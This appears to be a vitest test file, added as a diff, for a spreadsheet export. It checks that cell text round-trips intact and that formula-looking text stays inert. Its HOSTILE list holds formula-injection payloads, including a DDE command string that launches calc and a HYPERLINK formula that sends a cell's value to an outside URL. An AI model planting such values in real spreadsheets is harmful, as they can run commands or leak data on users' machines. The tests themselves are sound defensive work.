@@ -1,0 +1,124 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { streamOf } from '../../../support/byte-streams.ts';
+import { cellAt, column, partsOf, sheetOf, workbookOf } from './workbook-reader.ts';
+
+const MAX_CELL_CHARACTERS = 32_767;
+
+function file(...texts: string[]): Promise<Uint8Array> {
+  return workbookOf([{ name: 'S', columns: [column('text')], rows: streamOf(texts.map((text) => [text])) }]);
+}
+
+/** What Excel and SheetJS make of the texts. */
+async function read(...texts: string[]): Promise<unknown[]> {
+  const sheet = sheetOf(await file(...texts));
+  return texts.map((_, index) => cellAt(sheet, `A${index + 2}`)?.v);
+}
+
+describe('texts in a sheet', () => {
+  it('come back as they were, in every alphabet', async () => {
+    const texts = [
+      'Peña & Çà',
+      '<b>"x" \'y\'</b>',
+      'Ελληνικά',
+      'Русский',
+      '漢字🧾',
+      ' two  spaces ',
+      'a\nb\tc',
+      ']]>',
+    ];
+    expect(await read(...texts)).toEqual(texts);
+  });
+
+  it('are texts, also when they look like numbers or dates', async () => {
+    const texts = ['00123', '1e5', '2026-03-14', 'TRUE', '12,50', '#N/A'];
+    const sheet = sheetOf(await file(...texts));
+    texts.forEach((text, index) => {
+      expect(cellAt(sheet, `A${index + 2}`)).toMatchObject({ t: 's', v: text, z: '@' });
+    });
+  });
+
+  it('are read literally where they look like an escape of Excel', async () => {
+    const texts = ['_x0041_', 'a_x000D_b', '_x005F_x0041_', '_X00e9_', '_x41_'];
+    expect(await read(...texts)).toEqual(texts);
+    expect(partsOf(await file('_x0041_')).get('xl/worksheets/sheet1.xml')).toContain('<t>_x005F_x0041_</t>');
+  });
+
+  it('show the sign of replacement for what XML cannot hold, and line ends as Excel has them', async () => {
+    expect(await read('a\u0000b\u001fc\uffff', 'half \ud83e', 'a\r\nb\rc')).toEqual([
+      'a\ufffdb\ufffdc\ufffd',
+      'half \ufffd',
+      'a\nb\nc',
+    ]);
+  });
+
+  it('are cut to what Excel opens, with a sign of it, and never inside a character', async () => {
+    const [fits, long, astral] = await read(
+      'x'.repeat(MAX_CELL_CHARACTERS),
+      'x'.repeat(MAX_CELL_CHARACTERS + 1),
+      `x${'🧾'.repeat(20_000)}`,
+    );
+    expect(fits).toBe('x'.repeat(MAX_CELL_CHARACTERS));
+    expect(long).toBe(`${'x'.repeat(MAX_CELL_CHARACTERS - 1)}…`);
+    expect(astral).toBe(`x${'🧾'.repeat(16_382)}…`);
+  });
+
+  it('hold whatever anyone writes', async () => {
+    const text = fc.string({ unit: 'binary', minLength: 1, maxLength: 200 });
+    await fc.assert(
+      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 20 }), async (texts) => {
+        const wanted = texts.map((value) =>
+          value
+            .toWellFormed()
+            .replace(/\r\n?/g, '\n')
+            .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '\ufffd'),
+        );
+        expect(await read(...texts)).toEqual(wanted);
+      }),
+      { numRuns: 200 },
+    );
+  });
+});
+
+describe('texts that look like formulas', () => {
+  const HOSTILE = [
+    '=1+1',
+    '=HYPERLINK("http://example.com/?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    '+34 600 000 000',
+    '-5% descuento',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\r=1+1',
+    ' =1+1',
+    '＝1+1',
+  ];
+
+  it('are texts without a formula, and come back as they were', async () => {
+    const sheet = sheetOf(await file(...HOSTILE));
+    HOSTILE.forEach((text, index) => {
+      const cell = cellAt(sheet, `A${index + 2}`);
+      expect(cell).toMatchObject({ t: 's', v: text.replace('\r', '\n') });
+      expect(cell?.f).toBeUndefined();
+    });
+  });
+
+  it('carry the mark that keeps them texts when the cell is edited; other texts do not', async () => {
+    const parts = partsOf(await file(...HOSTILE, 'a=b', 'harmless'));
+    const formats =
+      parts
+        .get('xl/styles.xml')
+        ?.match(/<cellXfs.*<\/cellXfs>/)?.[0]
+        .match(/<xf [^>]*>/g) ?? [];
+    const cells = [...(parts.get('xl/worksheets/sheet1.xml') ?? '').matchAll(/<c r="A(\d+)" s="(\d+)"/g)];
+    const marked = cells.slice(1).map(([, , style]) => formats[Number(style)]?.includes('quotePrefix="1"'));
+    expect(marked).toEqual([...HOSTILE.map(() => true), false, false]);
+    const asText = cells.slice(1).map(([, , style]) => formats[Number(style)]?.includes('numFmtId="49"'));
+    expect(asText).toEqual(cells.slice(1).map(() => true));
+  });
+
+  it('have no element of a formula anywhere in the workbook', async () => {
+    const parts = partsOf(await file(...HOSTILE));
+    expect(parts.get('xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >/]/);
+  });
+});
